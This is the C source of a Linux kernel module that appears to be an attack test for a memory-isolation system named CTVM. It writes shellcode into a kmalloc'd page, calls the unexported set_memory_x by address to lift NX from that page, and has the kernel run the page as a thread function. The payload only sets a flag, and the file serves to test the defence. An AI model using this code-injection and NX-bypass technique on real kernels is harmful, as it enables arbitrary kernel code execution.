// SPDX-License-Identifier: GPL-2.0
/*
 * Attack: shellcode in a kmalloc'd page, reached through a kernel function
 * pointer. The module writes a few instructions into a heap page it was
 * given, asks set_memory_x (not exported: called at its address) to lift
 * the guest's own NX from the page, then hands the page to the kernel as a
 * thread function: the kernel, in its own view, would call it.
 *
 * In enforce mode the set_memory_x call is refused, the guest's NX stays
 * and the kernel's call faults in that thread alone. In audit mode the
 * call goes through, and what stands in the way is CTVM's W^X across
 * views: no page an isolated module wrote is executable for the kernel,
 * by physical page. Audit reports the kernel's fetch there and lets it
 * run, which is what the audit scenario checks.
 */
#include <linux/module.h>
#include <linux/kthread.h>
#include <linux/slab.h>
#include <linux/sched/task.h>
#include "alias.h"

static unsigned long set_memory_x_addr;
module_param(set_memory_x_addr, ulong, 0400);

static unsigned long ran;

static int __init atk_init(void)
{
	/* movabs rax, &ran; mov qword [rax], 1; xor eax, eax; ret */
	u8 code[] = { 0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0x48, 0xc7, 0x00, 0x01, 0, 0, 0, 0x31, 0xc0, 0xc3 };
	int (*setx)(unsigned long, int) = (void *)set_memory_x_addr;
	unsigned long flag = (unsigned long)&ran;
	struct task_struct *t;
	u8 *page;
	int r;

	if (!set_memory_x_addr)
		return -EINVAL;
	page = kmalloc(PAGE_SIZE, GFP_KERNEL);
	if (!page)
		return -ENOMEM;
	memcpy(code + 2, &flag, sizeof(flag));
	memcpy(page, code, sizeof(code));
	r = setx((unsigned long)page & PAGE_MASK, 1);
	t = kthread_create((int (*)(void *))page, NULL, "atk_wx");
	if (IS_ERR(t))
		return PTR_ERR(t);
	get_task_struct(t);
	wake_up_process(t);
	wait_for_thread(t, READ_ONCE(ran));
	put_task_struct(t);
	report("set_memory_x returned %d; shellcode in a kmalloc'd page, called by the kernel: %s", r,
	       READ_ONCE(ran) ? "it RAN" : "did not run");
	/* The page stays allocated: the dead thread's frames may point at it. */
	return -EACCES;
}
module_init(atk_init);
MODULE_LICENSE("GPL");
